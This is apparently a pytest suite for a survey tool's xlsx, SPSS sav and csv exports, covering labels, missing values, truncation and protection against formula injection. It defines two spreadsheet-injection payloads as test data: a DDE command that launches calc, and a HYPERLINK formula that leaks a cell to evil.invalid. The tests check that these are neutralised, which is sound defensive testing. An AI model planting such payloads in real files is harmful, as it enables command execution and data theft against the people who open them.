"""Exports read back: xlsx with openpyxl (values, types, formula injection, cut cells), sav
with pyreadstat (variable and value labels, user-missing "don't know"), csv plain, with
labels and for a Nordic Excel; the export command's files and refusals."""

from __future__ import annotations

import csv
import io
import shutil
import stat
import subprocess
import sys

import openpyxl
import pyreadstat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from report_helpers import LONG_TEXT, SECRET, SURVEY, TRICKY_TEXTS, UNITS, answers, write_results
from surveytui.analysis import analyze_dataset, load_dataset
from surveytui.cli import main
from surveytui.model import load_questionnaire
from surveytui.report.data import tidy_rows
from surveytui.report.export import CELL_LIMIT, CUT_MARKER, export_rows, to_csv, to_sav, to_xlsx
from surveytui.report.written import render_report
from surveytui.store import ResponseStore, column_specs
from surveytui.store.csvfile import encode_line

N = sum(UNITS.values())


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    return write_results(tmp_path_factory.mktemp("export"))


@pytest.fixture(scope="module")
def dataset(results):
    return load_dataset(results)


@pytest.fixture(scope="module")
def workbook(dataset):
    data, problems = to_xlsx(export_rows(dataset, "sv"), analyze_dataset(dataset), "out.xlsx")
    return openpyxl.load_workbook(io.BytesIO(data)), problems


def column(sheet, name):
    header = [c.value for c in sheet[1]]
    return [row[header.index(name)] for row in sheet.iter_rows(min_row=2)]


def test_xlsx_keeps_numbers_numbers_and_formulas_text(workbook):
    book, _ = workbook
    data = book["data"]
    assert data.max_row == N + 1
    use_a = column(data, "use_a")
    assert [c.value for c in use_a] == [answers(i)["use_a"] for i in range(N)]
    assert all(c.data_type == "n" for c in use_a if c.value != "na")
    assert [c.value for c in column(data, "hours")] == [answers(i)["hours"] for i in range(N)]
    assert [c.value for c in column(data, "mood")][:5] == [-2, -1, 0, 1, "na"]
    comments = column(data, "comment")
    for cell, text in zip(comments, TRICKY_TEXTS[:-1]):
        # XML reads a carriage return as a line feed; the cell is still text, not a formula
        assert cell.value == text.replace("\r", "\n") and cell.data_type == "s", text
    assert all(c.quotePrefix for c in comments[:6])
    formulas = [
        c.coordinate
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []


def test_xlsx_cuts_a_text_too_long_for_a_cell_and_says_so(workbook):
    book, problems = workbook
    cut = column(book["data"], "comment")[len(TRICKY_TEXTS) - 1].value
    assert len(cut) == CELL_LIMIT and cut.endswith(CUT_MARKER)
    assert cut.startswith(LONG_TEXT[:1000])
    assert [str(p) for p in problems] == [
        f"out.xlsx:{len(TRICKY_TEXTS) + 1}: data, column comment: a text of more than "
        f"{CELL_LIMIT} characters was cut to fit an Excel cell"
    ]


def test_xlsx_codebook_and_statistics_sheets(workbook, dataset):
    book, _ = workbook
    codebook = {row[0]: row for row in book["codebook"].iter_rows(min_row=2, values_only=True)}
    assert codebook["use_a"][1:] == (
        "ordinal",
        "Jag kan använda det",
        "1 = Instämmer inte; 5 = Instämmer helt; na = Vet ej",
    )
    assert codebook["topics__b"][2] == "Ämnen: Ämne B"
    assert codebook["role"][3] == "staff = Personal; lead = Chef; other = Annan roll"
    statistics = list(book["statistics"].iter_rows(min_row=2, values_only=True))
    expected = list(tidy_rows(analyze_dataset(dataset)))
    assert len(statistics) == len(expected)
    for got, want in zip(statistics, expected):
        assert [v or "" for v in got[:-1]] == list(want[:-1])
        assert got[-1] == (pytest.approx(float(want[-1]), rel=1e-14) if want[-1] else None)


def test_respondent_codes_only_when_asked(dataset):
    names = [c.name for c in export_rows(dataset).columns]
    assert "code" not in names and SECRET.format(3) not in to_csv(export_rows(dataset))
    asked = export_rows(dataset, respondent_codes=True)
    index = [c.name for c in asked.columns].index("code")
    assert [row[index] for row in asked.rows] == [SECRET.format(i) for i in range(N)]


def test_plain_csv_holds_the_cells_of_the_results_file(results, dataset):
    """...except that text a spreadsheet would run as a formula starts with `'`."""
    exported = list(csv.DictReader(io.StringIO(to_csv(export_rows(dataset)))))
    with open(results, encoding="utf-8", newline="") as file:
        original = list(csv.DictReader(file))
    skip = {"response_id", "code"}
    assert set(exported[0]) == set(original[0]) - skip
    for got, want in zip(exported, original):
        for name, value in got.items():
            if name == "hours" and value not in ("", "na"):
                assert float(value) == float(want[name])
            elif _formula_like(want[name]):
                assert value == "'" + want[name], name
            else:
                assert value == want[name], name
    assert [r["comment"] for r in exported[:6]] == ["'" + t for t in TRICKY_TEXTS[:6]]


ATTACK = "=cmd|' /C calc'!A0"


def _formula_like(cell: str) -> bool:
    """Text a spreadsheet would run as a formula (a negative number is just a number)."""
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    return False


EVIL_TAG = '=HYPERLINK("http://evil.invalid/?leak="&A2,"click")'


def _hostile_copy(results, folder):
    """The results file with a tag column named like a formula and an answer that is one."""
    with open(results, encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    rows[0][rows[0].index("unit")] = EVIL_TAG
    rows[1][rows[0].index("comment")] = ATTACK
    path = folder / results.name
    path.write_text("".join(encode_line(row) for row in rows), encoding="utf-8")
    snapshot = results.with_name(results.stem + ".questionnaire.yaml")
    shutil.copy(snapshot, folder / snapshot.name)
    return path


@pytest.mark.parametrize("options", [[], ["--labels"], ["--excel"], ["--excel", "--labels"]])
def test_every_csv_export_neutralises_formulas_in_values_and_column_names(
    tmp_path, results, options
):
    path = _hostile_copy(results, tmp_path)
    out = tmp_path / "out.csv"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "surveytui",
            "export",
            "--format",
            "csv",
            *options,
            "-o",
            str(out),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8-sig")
    rows = list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if "--excel" in options else ",")
    )
    assert "'" + EVIL_TAG in rows[0] and EVIL_TAG not in rows[0]
    assert rows[1][rows[0].index("comment")] == "'" + ATTACK
    assert [cell for row in rows for cell in row if _formula_like(cell)] == []


def test_xlsx_keeps_a_formula_like_column_name_text(tmp_path, results):
    path = _hostile_copy(results, tmp_path)
    out = tmp_path / "out.xlsx"
    assert main(["export", "--format", "xlsx", "-o", str(out), str(path)]) == 0
    data = openpyxl.load_workbook(out)["data"]
    header = [c for c in data[1] if c.value == EVIL_TAG]
    assert len(header) == 1 and header[0].data_type == "s" and header[0].quotePrefix
    comment = column(data, "comment")[0]
    assert comment.value == ATTACK and comment.data_type == "s" and comment.quotePrefix


def test_csv_with_labels(dataset):
    rows = list(csv.DictReader(io.StringIO(to_csv(export_rows(dataset, "en", labels=True)))))
    assert [r["role"] for r in rows[:2]] == ["Staff", "Manager"]
    assert [r["use_a"] for r in rows[:5]] == ["Disagree", "2", "3", "Don't know", "Agree"]
    assert [r["again"] for r in rows[:3]] == ["Yes", "No", "Yes"]
    assert [r["topics__a"] for r in rows[:2]] == ["Not chosen", "Topic A"]


def test_csv_for_nordic_excel(dataset):
    text = to_csv(export_rows(dataset, "sv"), excel=True)
    assert text.startswith("\ufeffsubmitted_at;") and "\r\n" in text
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert [r["hours"] for r in rows[:3]] == ["2,5", "3,5", "4,5"]
    assert [r["comment"] for r in rows[:4]] == [
        "'=SUM(A1:A2)",
        "'+46 70 123 45 67",
        "'-inte bra",
        "'@alla",
    ]
    assert rows[6]["comment"] == TRICKY_TEXTS[6]


def test_sav_read_back_with_labels(tmp_path, results):
    out = tmp_path / "out.sav"
    assert main(["export", str(results), "--format", "sav", "-o", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    frame, meta = pyreadstat.read_sav(str(out), user_missing=True)
    assert len(frame) == N and "code" not in frame.columns
    labels = meta.column_names_to_labels
    assert labels["use_a"] == "Jag kan använda det"
    assert labels["grid_y"] == "Rutnät Rad Y"
    assert labels["role__other"] == "Roll: Annan roll"
    values = meta.variable_value_labels
    assert values["use_a"] == {1.0: "Instämmer inte", 5.0: "Instämmer helt", -1.0: "Vet ej"}
    assert values["mood"][-3.0] == "Vet ej"  # below the scale's -2
    assert values["role"] == {"staff": "Personal", "lead": "Chef", "other": "Annan roll"}
    assert values["again"] == {1.0: "Ja", 0.0: "Nej"}
    assert meta.missing_ranges["use_a"] == [{"lo": -1.0, "hi": -1.0}]
    assert meta.missing_ranges["hours"] == [{"lo": -11.0, "hi": -11.0}]  # below min -10
    assert frame["use_a"].tolist()[:5] == [1.0, 2.0, 3.0, -1.0, 5.0]
    assert frame["role"].tolist()[:2] == ["staff", "lead"]
    assert meta.variable_measure["use_a"] == "ordinal"
    plain, _ = pyreadstat.read_sav(str(out))
    assert plain["use_a"].isna().tolist()[:5] == [False, False, False, True, False]


def test_export_command(tmp_path, results, capsys):
    out = tmp_path / "out.xlsx"
    assert main(["export", str(results), "--format", "xlsx", "-o", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "was cut to fit an Excel cell" in capsys.readouterr().err
    assert main(["export", str(results), "--format", "xlsx"]) == 2
    assert "give the file to write with --output" in capsys.readouterr().err
    assert main(["export", str(results), "--format", "sav", "--excel", "-o", str(out)]) == 2
    assert main(["export", str(results), "--format", "sav", "--labels", "-o", str(out)]) == 2
    assert "a sav file keeps the codes" in capsys.readouterr().err
    assert main(["export", str(results), "--labels", "--lang", "en"]) == 0
    assert "Staff" in capsys.readouterr().out


def test_a_results_file_without_responses(tmp_path):
    results = tmp_path / "report-test-v1.csv"
    questionnaire = load_questionnaire(SURVEY)
    results.write_text(",".join(questionnaire.header(["unit"])) + "\n", encoding="utf-8")
    shutil.copyfile(SURVEY, tmp_path / "report-test-v1.questionnaire.yaml")
    for fmt in ("sav", "xlsx", "csv"):
        assert (
            main(["export", str(results), "--format", fmt, "-o", str(tmp_path / f"out.{fmt}")]) == 0
        )
    frame, meta = pyreadstat.read_sav(str(tmp_path / "out.sav"))
    assert len(frame) == 0 and meta.variable_value_labels["role"] == {
        "staff": "Personal",
        "lead": "Chef",
        "other": "Annan roll",
    }
    assert openpyxl.load_workbook(tmp_path / "out.xlsx")["data"].max_row == 1


def test_sav_refuses_a_name_spss_cannot_hold(tmp_path, capsys):
    long_id = "a_very_long_question_id_that_goes_on_and_on_past_what_spss_allows_x"
    survey = tmp_path / "long.yaml"
    survey.write_text(
        SURVEY.read_text(encoding="utf-8").replace("use_b", long_id), encoding="utf-8"
    )
    results = tmp_path / "long.csv"
    store = ResponseStore(results, load_questionnaire(survey))
    store.append({long_id: 3, "again": True})
    assert main(["export", str(results), "--format", "sav", "-o", str(tmp_path / "x.sav")]) == 2
    assert f"{long_id}: longer than the 64 characters SPSS allows" in capsys.readouterr().err
    assert not (tmp_path / "x.sav").exists()


def cell_strategy(spec):
    """Cells a results file may hold for this column: valid codes, blanks, don't know."""
    options = [st.just("")]
    if spec.na:
        options.append(st.just("na"))
    if spec.kind in ("text", "other"):
        options.append(
            st.text(
                st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\t\n\r"),
                max_size=12,
            )
        )
    elif spec.kind == "number":
        options.append(st.integers(-10, 1000).map(str))
        options.append(st.floats(-10, 1000, allow_nan=False).map(repr))
    else:
        options.append(st.sampled_from(list(spec.codes)))
    return st.one_of(options)


SPECS = column_specs(load_questionnaire(SURVEY))
ROW = st.fixed_dictionaries(
    {
        "unit": st.sampled_from(list(UNITS)),
        **{column: cell_strategy(spec) for column, spec in SPECS.items()},
    }
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=st.lists(ROW, max_size=14))
def test_any_results_file_reports_and_exports(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("any")
    questionnaire = load_questionnaire(SURVEY)
    header = questionnaire.header(["unit"])
    lines = [encode_line(header)]
    for i, row in enumerate(rows):
        cells = {
            "response_id": f"00000000-0000-4000-8000-{i:012d}",
            "submitted_at": "2026-03-01",
            "questionnaire_id": questionnaire.id,
            "questionnaire_version": questionnaire.version,
            "language": "sv",
            **row,
        }
        lines.append(encode_line([cells.get(column, "") for column in header]))
    results = folder / "report-test-v1.csv"
    results.write_text("".join(lines), encoding="utf-8", newline="")
    shutil.copyfile(SURVEY, folder / "report-test-v1.questionnaire.yaml")
    dataset = load_dataset(results)
    for fmt in ("html", "markdown"):
        render_report(dataset, "en", fmt, by="unit")
    export = export_rows(dataset, "sv")
    assert len(export.rows) == len(rows)
    book, _ = to_xlsx(export, analyze_dataset(dataset))
    sheet = openpyxl.load_workbook(io.BytesIO(book))["data"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    sav = folder / "out.sav"
    sav.write_bytes(to_sav(export))
    assert len(pyreadstat.read_sav(str(sav))[0]) == len(rows)
